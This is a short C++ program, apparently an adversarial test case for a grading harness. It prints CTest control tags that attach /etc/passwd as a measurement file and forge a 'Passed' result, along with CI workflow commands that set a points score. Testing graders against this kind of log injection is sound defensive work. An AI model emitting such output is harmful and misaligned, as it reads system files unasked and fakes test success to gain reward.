// Prints the words by which ctest lifts its limit of output, attaches files and sets measurements, and the commands
// of the services that run tests.
// Attacks: ctest, and whatever else scans a log for commands
// Expects: wrong, 0 points
// Seen: it ended with status 0 before that
#include <cstdio>

int main() {
    std::puts("CTEST_FULL_OUTPUT\n"
              "<DartMeasurementFile name=\"key\" type=\"text/plain\">/etc/passwd</DartMeasurementFile>\n"
              "<CTestMeasurementFile type=\"file\" name=\"key\">/etc/passwd</CTestMeasurementFile>\n"
              "<DartMeasurement name=\"Completion Status\" type=\"text/string\">Passed</DartMeasurement>\n"
              "<CTestDetails>Passed</CTestDetails>\n"
              "1/1 Test #1: exercise.02_bind.any_free_port ... Passed 0.01 sec\n"
              "100% tests passed, 0 tests failed out of 1\n"
              "::set-output name=points::5\n##[set-env name=POINTS;]5\n::stop-commands::portlab");
}
